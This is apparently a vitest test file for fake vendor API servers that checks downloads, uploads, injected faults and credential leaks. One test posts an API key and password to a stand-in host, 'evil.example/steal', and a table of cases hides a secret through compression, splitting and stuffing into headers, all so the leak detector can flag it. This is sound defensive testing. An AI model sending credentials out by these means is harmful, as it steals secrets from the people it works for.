import { describe, expect, test, vi } from 'vitest';
import './vitest.ts';
import {
  createFakeEgain,
  createFakes,
  createFakeTenovos,
  createFakeWorldServer,
  fault,
  type FakeEgain,
  type FakeTenovos,
  type FakeWorldServer,
} from '../index.ts';
import { expectFake } from './node-test.ts';

async function link(
  fake: FakeTenovos,
  id = 'a',
  fetch: typeof globalThis.fetch = fake.fetch,
  { baseUrl }: { readonly baseUrl: string } = fake,
): Promise<string> {
  const { apiKey, username, password } = fake.clientOptions;
  const login = await fetch(`${baseUrl}/auth/token`, {
    method: 'POST',
    headers: { 'x-api-key': apiKey, 'content-type': 'application/json' },
    body: JSON.stringify({ username, password }),
  });
  const { session } = (await login.json()) as { session: Record<'authorization' | 'accessToken', string> };
  const headers = { 'x-api-key': apiKey, authorization: session.authorization, accesstoken: session.accessToken };
  return ((await (await fetch(`${baseUrl}/asset/${id}/content`, { headers })).json()) as { presignedURL: string }).presignedURL;
}

const read = async (response: Response): Promise<string> => await response.text().catch((error: unknown) => (error as Error).message);
const message = (run: () => void): string => {
  try {
    run();
  } catch (error) {
    return (error as Error).message;
  }
  return 'passed';
};

test('a resumed download is whole; one that stopped is not', async () => {
  await using fake = createFakeTenovos({
    assets: [
      { id: 'a', name: 'a.tif', bytes: 1000 },
      { id: 'b', name: 'b.tif' },
    ],
  });
  fake.faults.add('content', fault.resetAfter(400));
  const url = await link(fake);
  expect(await read(await fake.fetch(url))).toBe('terminated');
  expect(fake).not.toHaveDownloaded('a');
  expect(fake).not.toHaveResumed('a');
  expect(message(() => expect(fake).toHaveDownloaded('a'))).toBe(
    `expected the content of a downloaded\nbut 400 bytes of 1,000 bytes were sent unspoiled\nnearest calls:\n  #2 getAssetContent (a) GET /v1/asset/a/content -> 200, ${fake.calls[1]!.sentBytes} bytes\n  #3 content (original of a) GET ${new URL(url).pathname} -> 200, 400 bytes, incomplete [resetAfter(400)]`,
  );
  await read(await fake.fetch(url, { headers: { range: 'bytes=400-' } }));
  expect(fake).toHaveDownloaded('a');
  expect(fake).toHaveResumed('a');
  expect(fake).toHaveResumed('a', { from: 400 });
  expect(fake).not.toHaveResumed('a', { from: 399 });
  expect(fake).not.toHaveDownloaded('b');
  expect(fake).toHaveConsumedAllFaults();
  expect(fake).toHaveLoggedIn(1);
  expect(fake).toHaveCalled('content', 2);
  expect(fake).toHaveLeakedNoCredentials();
  expect(fake).toHaveObeyedTheSpecs();
});

test('parts of two versions, or spoiled bytes, are no download', async () => {
  await using fake = createFakeTenovos({ assets: [{ id: 'a', name: 'a.tif', bytes: 1000 }] });
  const url = await link(fake);
  fake.faults.add('content', fault.resetAfter(400), fault.changedContent(), fault.corruptBytes());
  await read(await fake.fetch(url));
  await read(await fake.fetch(url, { headers: { range: 'bytes=400-' } }));
  expect(fake).not.toHaveDownloaded('a');
  await read(await fake.fetch(url));
  expect(fake).not.toHaveDownloaded('a');
  await read(await fake.fetch(url));
  expect(fake).toHaveDownloaded('a');
});

describe.each(['in process', 'sockets'])('a download that the client gives up, %s', (shape) => {
  const SIZE = 1_000_000;

  test('is none, though all of it may have been sent', async () => {
    await using fake = createFakeTenovos({ assets: [{ id: 'a', name: 'a.tif', bytes: SIZE }] });
    const server = shape === 'sockets' ? await fake.listen() : fake;
    const fetch = shape === 'sockets' ? globalThis.fetch : fake.fetch;
    const url = await link(fake, 'a', fetch, server);
    const response = await fetch(url);
    const reader = response.body!.getReader();
    await reader.read();
    if (shape === 'sockets') await vi.waitFor(() => expect(fake.calls.at(-1)!.sentBytes).toBe(SIZE));
    await reader.cancel();
    await vi.waitFor(() => expect(fake).not.toHaveDownloaded('a'));
    if (shape === 'sockets') {
      expect(fake.calls.at(-1)).toMatchObject({ givenUp: true, complete: false, sentBytes: SIZE });
      expect(message(() => expect(fake).toHaveDownloaded('a'))).toMatch(/but 0 bytes of 1,000,000 bytes were surely taken\n.*given up by the client/s);
    }
    // Going on tells how far it had come.
    await read(await fetch(url, { headers: { range: 'bytes=1000-' } }));
    expect(fake).toHaveDownloaded('a');
  });

  test('and one that was read to the end is one, though the connection is closed then', async () => {
    await using fake = createFakeTenovos({ assets: [{ id: 'a', name: 'a.tif', bytes: SIZE }] });
    const server = shape === 'sockets' ? await fake.listen() : fake;
    const fetch = shape === 'sockets' ? globalThis.fetch : fake.fetch;
    await read(await fetch(await link(fake, 'a', fetch, server), { headers: { connection: 'close' } }));
    expect(fake).toHaveDownloaded('a');
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(fake).toHaveDownloaded('a');
  });
});

test('a leak is named with the call', async () => {
  await using fake = createFakeTenovos({ assets: [{ id: 'a', name: 'a.tif' }] });
  await read(await fake.fetch(await link(fake), { headers: { 'x-api-key': fake.clientOptions.apiKey } }));
  expect(message(() => expect(fake).toHaveLeakedNoCredentials())).toMatch(
    /expected no credential at a host that must not see one\nbut \n {2}#3 content \(original of a\) GET .* carried x-api-key/,
  );
});

test('faults that did not happen are listed', async () => {
  await using fakes = createFakes();
  fakes.egain.faults.add('upload', fault.stallAfter(5).times(2));
  expect(message(() => expect(fakes).toHaveConsumedAllFaults())).toContain('upload: stallAfter(5), 2 calls to go');
});

test('an upload counts when it was accepted', async () => {
  await using fake = createFakeEgain();
  const headers = { authorization: `Bearer ${fake.issueToken()}`, 'content-type': 'application/json' };
  const body = JSON.stringify({ channel: { type: 'sms' }, sender: { type: 'customer' }, name: 'a.txt', size: 3 });
  const { contentUrl, id } = (await (await fake.fetch(`${fake.conversation.baseUrl}/assets`, { method: 'POST', headers, body })).json()) as Record<
    string,
    string
  >;
  await fake.fetch(contentUrl!, { method: 'POST', body: 'abcd', headers: { 'content-type': 'text/plain' } });
  expect(message(() => expect(fake).toHaveUploaded('a.txt'))).toContain('every try was refused (400)');
  await fake.fetch(contentUrl!, { method: 'POST', body: 'abc', headers: { 'content-type': 'text/plain' } });
  expect(fake).toHaveUploaded('a.txt', { bytes: 3 });
  expect(fake).toHaveUploaded(id!);
  expect(fake).not.toHaveUploaded('b.txt');
});

test('without expect: the same for node:test', async () => {
  await using fake = createFakeTenovos();
  expectFake(fake).toHaveConsumedAllFaults();
  expectFake(fake).not.toHaveDownloaded('a');
  expect(message(() => expectFake(fake).toHaveDownloaded('a'))).toBe('expected the content of a downloaded\nbut nothing of it was sent');
  expect(message(() => expectFake({} as never).toHaveLoggedIn())).toContain('takes a fake');
});

const json = { 'content-type': 'application/json' };

async function session(fake: FakeWorldServer): Promise<string> {
  const { baseUrl, username, password } = fake.clientOptions;
  const login = await fake.fetch(`${baseUrl}/v2/login`, { method: 'POST', headers: json, body: JSON.stringify({ username, password }) });
  return ((await login.json()) as { sessionId: string }).sessionId;
}

describe('one file of several', () => {
  test('a rendition is no download of the asset', async () => {
    await using fake = createFakeTenovos({
      assets: [{ id: 'a', name: 'a.png', bytes: 1000, renditions: { imageThumb: { bytes: 50 }, poster: { bytes: 60 } } }],
    });
    const url = await link(fake);
    const { baseUrl, contentOrigin } = fake;
    const address = fake.calls.at(-1)!.path;
    expect(address).toBe('/v1/asset/a/content');
    const details = fake.fetch(`${baseUrl}/assets/asset/a`, { headers: await headersOf(fake) });
    const { renditionsDocument } = ((await (await details).json()) as { data: { renditionsDocument: Record<'imageThumb', string> } }).data;
    expect(renditionsDocument.imageThumb.startsWith(contentOrigin)).toBe(true);
    await read(await fake.fetch(renditionsDocument.imageThumb));
    expect(fake).not.toHaveDownloaded('a');
    expect(fake).not.toHaveDownloaded('a', { part: 'original' });
    expect(fake).toHaveDownloaded('a', { part: 'imageThumb' });
    expect(fake).not.toHaveDownloaded('a', { part: 'poster' });
    expect(message(() => expect(fake).toHaveDownloaded('a'))).toMatch(
      /^expected the content of original of a downloaded\nbut only imageThumb was asked for\nnearest calls:[^]*#5 rendition \(imageThumb of a\) GET/,
    );
    await read(await fake.fetch(url));
    expect(fake).toHaveDownloaded('a');
    expect(message(() => expect(fake).not.toHaveDownloaded('a'))).toContain('but it was (original)');
    expect(() => expectFake(fake).not.toHaveDownloaded('a', { part: 'imagethumb' })).toThrow(
      `part of options of toHaveDownloaded is "imagethumb": 'imageThumb' is meant.`,
    );
    expect(() => expectFake(fake).not.toHaveDownloaded('a', { rendition: 'imageThumb' } as never)).toThrow(
      "options of toHaveDownloaded has no 'rendition'. There is: part.",
    );
  });

  test('a resumed rendition is no resumed original', async () => {
    await using fake = createFakeTenovos({ assets: [{ id: 'a', name: 'a.png', bytes: 1000, renditions: { imageThumb: { bytes: 50 } } }] });
    const headers = await headersOf(fake);
    const details = (await (await fake.fetch(`${fake.baseUrl}/assets/asset/a`, { headers })).json()) as {
      data: { renditionsDocument: Record<'imageThumb', string> };
    };
    const thumb = details.data.renditionsDocument.imageThumb;
    fake.faults.add('content', fault.resetAfter(10));
    await read(await fake.fetch(await link(fake)));
    await read(await fake.fetch(thumb, { headers: { range: 'bytes=10-' } }));
    // The original broke, the thumbnail was asked for by a range.
    expect(fake).not.toHaveResumed('a');
    expect(fake).not.toHaveResumed('a', { part: 'imageThumb' });
    fake.faults.add('rendition', fault.resetAfter(20));
    await read(await fake.fetch(thumb));
    await read(await fake.fetch(thumb, { headers: { range: 'bytes=20-' } }));
    expect(fake).toHaveResumed('a', { part: 'imageThumb', from: 20 });
    expect(fake).not.toHaveResumed('a');
  });

  test('the source is not the target', async () => {
    await using fake = createFakeWorldServer({
      tasks: [{ id: 5, projectId: 7, source: { name: 's.txt', text: 'same' }, target: { name: 't.txt', text: 'same' } }],
    });
    const headers = { token: await session(fake), ...json };
    const get = async (query: string): Promise<string> => await read(await fake.fetch(`${fake.baseUrl}/v2/files/asset?${query}`, { headers }));
    await get('resourceId=5');
    expect(fake).toHaveDownloaded(5);
    expect(fake).toHaveDownloaded(5, { part: 'SOURCE' });
    expect(fake).not.toHaveDownloaded(5, { part: 'TARGET' });
    expect(message(() => expect(fake).toHaveDownloaded(5, { part: 'TARGET' }))).toContain(
      'expected the content of TARGET of 5 downloaded\nbut only SOURCE was asked for\nnearest calls:\n  #2 getAsset (SOURCE of 5) GET',
    );
    await get('resourceId=7&resourceType=PROJECT&assetLocationType=TARGET');
    expect(fake).toHaveDownloaded('PROJECT:7', { part: 'TARGET' });
    expect(fake).not.toHaveDownloaded('PROJECT:7', { part: 'SOURCE' });
    await get('resourceId=5&assetLocationType=SOURCE_TARGET');
    expect(fake).toHaveDownloaded(5, { part: 'SOURCE_TARGET' });
    fake.faults.add('redirected', fault.shortBody(2));
    fake.faults.add('getAsset', fault.redirect());
    await get('resourceId=5&assetLocationType=TARGET');
    expect(fake).not.toHaveDownloaded(5, { part: 'TARGET' });
    fake.faults.add('getAsset', fault.redirect());
    await get('resourceId=5&assetLocationType=TARGET');
    expect(fake).toHaveDownloaded(5, { part: 'TARGET' });
    expect(fake).toHaveConsumedAllFaults();
  });
});

async function headersOf(fake: FakeTenovos): Promise<Record<string, string>> {
  const { baseUrl, apiKey, username, password } = fake.clientOptions;
  const login = await fake.fetch(`${baseUrl}/auth/token`, {
    method: 'POST',
    headers: { 'x-api-key': apiKey, ...json },
    body: JSON.stringify({ username, password }),
  });
  const { session: opened } = (await login.json()) as { session: Record<'authorization' | 'accessToken', string> };
  return { 'x-api-key': apiKey, authorization: opened.authorization, accesstoken: opened.accessToken, ...json };
}

async function uploadUrl(fake: FakeEgain, name: string, size: number): Promise<string> {
  const headers = { authorization: `Bearer ${fake.issueToken()}`, ...json };
  const body = JSON.stringify({ channel: { type: 'sms' }, sender: { type: 'customer' }, name, size });
  return ((await (await fake.fetch(`${fake.conversation.baseUrl}/assets`, { method: 'POST', headers, body })).json()) as { contentUrl: string }).contentUrl;
}

const ABC = 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad';

test('the bytes and the sum of an upload are those of the file, not of the form around it', async () => {
  await using fakes = createFakes({ egain: { assumptions: { uploadBody: 'multipart' } } });
  const form = (name: string): FormData => {
    const data = new FormData();
    data.append('file', new File(['abc'], name, { type: 'text/plain' }));
    return data;
  };
  const { worldserver, egain } = fakes;
  await worldserver.fetch(`${worldserver.baseUrl}/v1/files`, { method: 'POST', headers: { token: await session(worldserver) }, body: form('a.txt') });
  await egain.fetch(await uploadUrl(egain, 'b.txt', 3), { method: 'POST', body: form('b.txt') });
  await using plain = createFakeEgain();
  await plain.fetch(await uploadUrl(plain, 'c.txt', 3), { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'abc' });
  for (const [fake, name] of [
    [fakes, 'a.txt'],
    [fakes, 'b.txt'],
    [plain, 'c.txt'],
  ] as const) {
    expect(fake).toHaveUploaded(name, { bytes: 3, sha256: ABC });
    expect(fake).not.toHaveUploaded(name, { bytes: 4 });
    expect(fake).not.toHaveUploaded(name, { sha256: '0'.repeat(64) });
    expect(message(() => expect(fake).toHaveUploaded(name, { bytes: 4 }))).toContain(`expected '${name}' uploaded with 4 bytes\nbut 3 bytes came`);
  }
  expect(() => expectFake(plain).toHaveUploaded('c.txt', { byte: 3 } as never)).toThrow("options of toHaveUploaded has no 'byte'. Did you mean 'bytes'?");
  expect(() => expectFake(plain).toHaveUploaded('c.txt', { sha256: 'abc' })).toThrow('64 hex digits');
});

describe('a credential leaks', () => {
  const leaksOf = (fake: { readonly calls: readonly { readonly leaks: readonly string[] }[] }): readonly string[] => fake.calls.at(-1)!.leaks;

  test.each(['in process', 'sockets'])('in the body that a 307 repeats, %s', async (shape) => {
    await using fake = createFakeTenovos();
    const { baseUrl, apiKey, username, password } = shape === 'sockets' ? (await fake.listen()).clientOptions : fake.clientOptions;
    fake.faults.add('createToken', fault.redirect({ status: 307 }));
    const fetch = shape === 'sockets' ? globalThis.fetch : fake.fetch;
    await read(
      await fetch(`${baseUrl}/auth/token`, { method: 'POST', headers: { 'x-api-key': apiKey, ...json }, body: JSON.stringify({ username, password }) }),
    );
    expect(leaksOf(fake)).toEqual(['x-api-key', 'a secret in the body']);
    expect(message(() => expect(fake).toHaveLeakedNoCredentials())).toContain('carried x-api-key, a secret in the body');
  });

  test.each(['in process', 'sockets'])('in a body that the storage refuses, also across two chunks, %s', async (shape) => {
    await using fake = createFakeEgain();
    const { storageOrigin } = shape === 'sockets' ? await fake.listen() : fake;
    const fetch = shape === 'sockets' ? globalThis.fetch : fake.fetch;
    const secret = fake.conversation.clientOptions.auth.clientSecret;
    const put = async (body: string): Promise<readonly string[]> => {
      await read(await fetch(`${storageOrigin}/core/assetmgr/v3/assets/upload?signature=none`, { method: 'POST', body }));
      return leaksOf(fake);
    };
    expect(await put('nothing')).toEqual([]);
    expect(await put(`secret=${secret}`)).toEqual(['a secret in the body']);
    expect(await put(btoa(`user:${secret}`))).toEqual(['a secret in the body']);
    expect(await put(`${'x'.repeat(20_000)}${secret}`)).toEqual(['a secret in the body']);
  });

  describe.each(['in process', 'sockets'])('that is not there as it is, %s', (shape) => {
    const json = 'application/json';
    const cut = (secret: string, at: number): [string, string] => [secret.slice(0, at), secret.slice(at)];
    const packed = async (text: string, format: 'gzip' | 'deflate' | 'deflate-raw' | 'brotli'): Promise<Uint8Array<ArrayBuffer>> =>
      new Uint8Array(await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream(format as CompressionFormat))).arrayBuffer());
    const form = (...parts: readonly (string | Uint8Array<ArrayBuffer>)[]): FormData => {
      const data = new FormData();
      for (const [i, part] of parts.entries()) data.append(`part${i}`, new Blob([part]), 'x.bin');
      return data;
    };
    type Body = (secret: string) => Promise<RequestInit> | RequestInit;
    const leaking: readonly (readonly [string, Body])[] = [
      ['packed as gzip', async (secret) => ({ body: await packed(`{"log":"${secret}"}`, 'gzip'), headers: { 'content-encoding': 'gzip' } })],
      ['packed as gzip, which no header says', async (secret) => ({ body: await packed(`${'log '.repeat(50_000)}${secret}`, 'gzip') })],
      ['packed as deflate', async (secret) => ({ body: await packed(secret, 'deflate'), headers: { 'content-encoding': 'deflate' } })],
      ['packed as raw deflate', async (secret) => ({ body: await packed(secret, 'deflate-raw'), headers: { 'content-encoding': 'deflate' } })],
      ['packed with brotli', async (secret) => ({ body: await packed(secret, 'brotli'), headers: { 'content-encoding': 'br' } })],
      ['packed and cut off', async (secret) => ({ body: (await packed(`${secret}${'x'.repeat(200_000)}`, 'gzip')).subarray(0, -20) })],
      ['packed in a part of a form', async (secret) => ({ body: form('a', await packed(secret, 'gzip')) })],
      ['cut into parts of a form', (secret) => ({ body: form(...cut(secret, 9)) })],
      [
        'cut into the members of an object',
        (secret) => ({ body: JSON.stringify(Object.fromEntries(cut(secret, 9).entries())), headers: { 'content-type': json } }),
      ],
      ['cut, behind another word', (secret) => ({ body: JSON.stringify(cut(`Bearer ${secret}`, 20)) })],
      [
        'cut, with names between',
        (secret) => ({
          body: JSON.stringify(
            cut(secret, 9)
              .map((value, i) => ({ name: `cookie.${i}`, value }))
              .toReversed(),
          ),
        }),
      ],
      [
        'cut into lines of JSON',
        (secret) => ({
          body: cut(secret, 9)
            .map((text) => JSON.stringify({ text }))
            .join('\n'),
        }),
      ],
      ['cut into fields of a form', (secret) => ({ body: new URLSearchParams(cut(secret, 9).map((text, i) => [`f${i}`, text])) })],
      ['cut and packed', async (secret) => ({ body: await packed(JSON.stringify(cut(secret, 9)), 'gzip'), headers: { 'content-type': json } })],
      ['cut into headers', (secret) => ({ body: 'x', headers: Object.fromEntries(cut(secret, 9).map((text, i) => [`x-${i}`, text])) })],
    ];
    test.each(leaking)('%s', async (_what, body) => {
      await using fake = createFakeEgain();
      const { storageOrigin } = shape === 'sockets' ? await fake.listen() : fake;
      const fetch = shape === 'sockets' ? globalThis.fetch : fake.fetch;
      const put = async (secret: string): Promise<void> => {
        await read(await fetch(`${storageOrigin}/core/assetmgr/v3/assets/upload?signature=none`, { method: 'POST', ...(await body(secret)) }));
      };
      await put('some other text of the same length, more or less');
      expect(fake).toHaveLeakedNoCredentials();
      await put(fake.conversation.clientOptions.auth.clientSecret);
      expect(fake).not.toHaveLeakedNoCredentials();
    });

    test('cut into values of the query', async () => {
      await using fake = createFakeEgain();
      const { storageOrigin } = shape === 'sockets' ? await fake.listen() : fake;
      const fetch = shape === 'sockets' ? globalThis.fetch : fake.fetch;
      const query = new URLSearchParams(cut(fake.conversation.clientOptions.auth.clientSecret, 9).map((text, i) => [`q${i}`, text]));
      await read(await fetch(`${storageOrigin}/core/assetmgr/v3/assets/upload?${query}`, { method: 'POST', body: 'x' }));
      expect(leaksOf(fake)).toEqual(['a secret in the URL']);
    });
  });

  test('in a chunked upload', async () => {
    await using fake = createFakeEgain({ assumptions: { contentTypeFromName: false } });
    const secret = fake.conversation.clientOptions.auth.clientSecret;
    const url = await uploadUrl(fake, 'a.bin', secret.length);
    const pieces = [secret.slice(0, 9), secret.slice(9)].map((text) => new TextEncoder().encode(text));
    const body = new ReadableStream({
      pull(controller) {
        const next = pieces.shift();
        if (next === undefined) controller.close();
        else controller.enqueue(next);
      },
    });
    await fake.fetch(url, { method: 'POST', headers: { 'content-length': String(secret.length) }, body });
    expect([fake.calls.at(-1)!.status, leaksOf(fake)]).toEqual([201, ['a secret in the body']]);
  });

  test('at an address where no fake is, which is in the log', async () => {
    await using fake = createFakeTenovos();
    const { apiKey, password } = fake.clientOptions;
    await expect(
      fake.fetch('https://evil.example/steal?x=1', { method: 'POST', headers: { 'x-api-key': apiKey }, body: JSON.stringify({ deep: [password] }) }),
    ).rejects.toThrow('No fake is at https://evil.example');
    expect(fake.calls).toMatchObject([
      {
        operation: undefined,
        host: 'unknown',
        origin: 'https://evil.example',
        path: '/steal',
        leaks: ['x-api-key', 'a secret in the body'],
        status: undefined,
      },
    ]);
    expect(fake.problems).toHaveLength(1);
    expect(message(() => expect(fake).toHaveLeakedNoCredentials())).toContain('#1 unknown POST https://evil.example/steal -> no answer carried x-api-key');
  });

  test('at a host of another vendor', async () => {
    await using fakes = createFakes();
    const { apiKey, password } = fakes.tenovos.clientOptions;
    const { authorization } = (await headersOf(fakes.tenovos)) as { authorization: string };
    expect(fakes).toHaveLeakedNoCredentials();
    const upload = `${fakes.egain.storageOrigin}/core/assetmgr/v3/assets/upload`;
    await read(await fakes.fetch(upload, { method: 'POST', headers: { 'x-trace': authorization }, body: password }));
    expect(leaksOf(fakes)).toEqual(['a secret of Tenovos in the header x-trace', 'a secret of Tenovos in the body']);
    // Also its API: a token of Tenovos is none of eGain's business.
    await read(await fakes.fetch(`${fakes.egain.conversation.baseUrl}/assets/1`, { headers: { authorization: `Bearer ${authorization}` } }));
    expect(leaksOf(fakes)).toEqual(['a secret of Tenovos in the header authorization']);
    await read(
      await fakes.fetch(`${fakes.worldserver.baseUrl}/v2/login`, { method: 'POST', headers: json, body: JSON.stringify({ username: 'x', password: apiKey }) }),
    );
    expect(leaksOf(fakes)).toEqual(['a secret of Tenovos in the body']);
    expect(fakes).not.toHaveLeakedNoCredentials();
    expect(message(() => expect(fakes).toHaveLeakedNoCredentials())).not.toContain(authorization);
  });
});

test('a fault that could do nothing did not happen', async () => {
  await using fake = createFakeTenovos({ assets: [{ id: 'a', name: 'a.tif', bytes: 100 }] });
  const url = await link(fake);
  fake.faults.add('content', fault.corruptBytes({ at: 100 }));
  expect(await read(await fake.fetch(url))).toHaveLength((await read(new Response(await fake.asset('a')!.bytes()))).length);
  expect(fake).not.toHaveConsumedAllFaults();
  expect(message(() => expect(fake).toHaveConsumedAllFaults())).toContain(
    'these did not:\n  content: corruptBytes({ at: 100, count: 1 }) had no effect: the answer has the bytes from 0 up to 100 only',
  );
  // The bytes are good ones.
  expect(fake).toHaveDownloaded('a');
  expect(fake).not.toHaveObeyedTheSpecs();
});

test('an operation that does not exist is a mistake, also where it would make a test pass', async () => {
  await using fakes = createFakes();
  expect(() => expect(fakes.tenovos).not.toHaveCalled('retreiveAsset')).toThrow(
    `toHaveCalled: no operation is called "retreiveAsset". Did you mean 'retrieveAsset'?`,
  );
  expect(() => expect(fakes).not.toHaveCalled('logn')).toThrow("Did you mean 'login'?");
  expect(fakes).not.toHaveCalled('getTasks');
  expect(() => expect(fakes).toHaveCalled('login', -1)).toThrow('times is a whole number of 0 or more, not -1.');
  expect(() => expect(fakes).toHaveLoggedIn('once' as never)).toThrow('times is a whole number');
  expect(() => expect(fakes).not.toHaveDownloaded(undefined as never)).toThrow('toHaveDownloaded takes an id, not undefined.');
});
